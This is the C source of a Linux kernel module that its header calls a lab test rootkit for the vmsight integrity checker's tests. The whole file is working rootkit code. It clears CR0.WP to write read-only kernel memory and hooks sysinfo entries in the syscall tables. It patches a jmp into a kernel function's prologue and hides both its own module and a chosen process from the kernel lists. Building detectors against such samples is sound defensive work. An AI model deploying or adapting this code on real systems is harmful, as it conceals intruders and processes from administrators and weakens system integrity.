// SPDX-License-Identifier: GPL-2.0
/*
 * vmsrk — the lab's test rootkit, for vmsight's integrity checks
 * (tests/test_check.py). It does, once, at load, what real rootkits do,
 * so the host can be shown to find each of them:
 *
 *  - sys_call_table[__NR_sysinfo] and, where the kernel has one,
 *    ia32_sys_call_table[116] (sysinfo) point at its own functions (which
 *    call the originals);
 *  - the first instruction of a kernel function (hook_fn, default
 *    __x64_sys_getppid: its 5-byte ftrace nop, after endbr64 with IBT)
 *    becomes a jmp into the module (which runs the function's body past
 *    the nop, so it still works);
 *  - it unlinks its struct module from the module list;
 *  - it unlinks the process hide_pid from the task list (the process must
 *    never exit: its removal from the list would then corrupt it).
 *
 * Kernel text and the tables are read-only: they are written with CR0.WP
 * cleared for the moment of the write, interrupts off. Nothing is undone:
 * the module can not be unloaded, and the guest it ran in is thrown away.
 * Only for the lab's disposable test guests.
 */
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/string.h>
#include <asm/ptrace.h>
#include <asm/unistd.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmsight lab test rootkit (do not use outside the lab)");

static int hide_pid;
module_param(hide_pid, int, 0);
static char *hook_fn = "__x64_sys_getppid";
module_param(hook_fn, charp, 0);

typedef long (*sys_fn)(const struct pt_regs *);
typedef unsigned long (*lookup_fn)(const char *);

static lookup_fn lookup;
static sys_fn orig_sysinfo, orig_ia32_sysinfo, hooked_body;

static noinline long vmsrk_sysinfo(const struct pt_regs *regs)
{
	return orig_sysinfo(regs);
}

static noinline long vmsrk_ia32_sysinfo(const struct pt_regs *regs)
{
	return orig_ia32_sysinfo(regs);
}

/* Reached by the jmp patched over the hooked function's nop: runs the
 * function's own body, which starts right after the 5-byte nop. */
static noinline long vmsrk_prologue_hook(const struct pt_regs *regs)
{
	return hooked_body(regs);
}

/* kallsyms_lookup_name is not exported: a kprobe on it tells its address. */
static int find_lookup(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int rc = register_kprobe(&kp);
	if (rc)
		return rc;
	lookup = (lookup_fn)kp.addr;
	unregister_kprobe(&kp);
	return lookup ? 0 : -ENOENT;
}

static void write_ro(void *dst, const void *src, size_t len)
{
	unsigned long flags, cr0;
	local_irq_save(flags);
	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	memcpy(dst, src, len);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

static int hook_table(const char *table, unsigned nr, sys_fn hook, sys_fn *orig)
{
	sys_fn *t = (sys_fn *)lookup(table);
	if (!t)
		return -ENOENT;
	*orig = t[nr];
	write_ro(&t[nr], &hook, sizeof(hook));
	pr_info("vmsrk: %s[%u] %px -> %px\n", table, nr, *orig, hook);
	return 0;
}

static int patch_prologue(void)
{
	static const u8 nop5[5] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
	static const u8 endbr64[4] = { 0xf3, 0x0f, 0x1e, 0xfa };
	u8 *fn = (u8 *)lookup(hook_fn), *site;
	u8 jmp[5];
	s32 rel;
	if (!fn)
		return -ENOENT;
	/* With IBT the function starts with endbr64, its nop right after. */
	site = memcmp(fn, endbr64, 4) ? fn : fn + 4;
	if (memcmp(site, nop5, 5)) {
		pr_err("vmsrk: %s does not start with the 5-byte nop\n", hook_fn);
		return -EINVAL;
	}
	hooked_body = (sys_fn)(site + 5);
	rel = (s32)((long)vmsrk_prologue_hook - (long)(site + 5));
	jmp[0] = 0xe9;
	memcpy(jmp + 1, &rel, 4);
	write_ro(site, jmp, 5);
	pr_info("vmsrk: %s %px+%u -> jmp %px\n", hook_fn, fn, (unsigned)(site - fn), vmsrk_prologue_hook);
	return 0;
}

static int hide_task(void)
{
	struct pid *pid = find_get_pid(hide_pid);
	struct task_struct *task;
	if (!pid)
		return -ESRCH;
	task = get_pid_task(pid, PIDTYPE_PID);
	put_pid(pid);
	if (!task)
		return -ESRCH;
	/* Left referenced on purpose: the task must outlive its hiding. */
	list_del_rcu(&task->tasks);
	INIT_LIST_HEAD(&task->tasks);
	pr_info("vmsrk: pid %d (%s) unlinked from the task list\n", hide_pid, task->comm);
	return 0;
}

static int __init vmsrk_init(void)
{
	int rc = find_lookup();
	if (rc)
		return rc;
	if ((rc = hook_table("sys_call_table", __NR_sysinfo, vmsrk_sysinfo, &orig_sysinfo)))
		return rc;
	/* Kernels that dispatch through ia32_sys_call (6.9+, 6.1.85+) have no
	 * ia32_sys_call_table: then there is none to hook. */
	if (lookup("ia32_sys_call_table") &&
	    (rc = hook_table("ia32_sys_call_table", 116, vmsrk_ia32_sysinfo, &orig_ia32_sysinfo)))
		return rc;
	if ((rc = patch_prologue()))
		return rc;
	if (hide_pid && (rc = hide_task()))
		return rc;
	list_del_rcu(&THIS_MODULE->list);
	INIT_LIST_HEAD(&THIS_MODULE->list);
	pr_info("vmsrk: unlinked from the module list\n");
	return 0;
}
module_init(vmsrk_init);
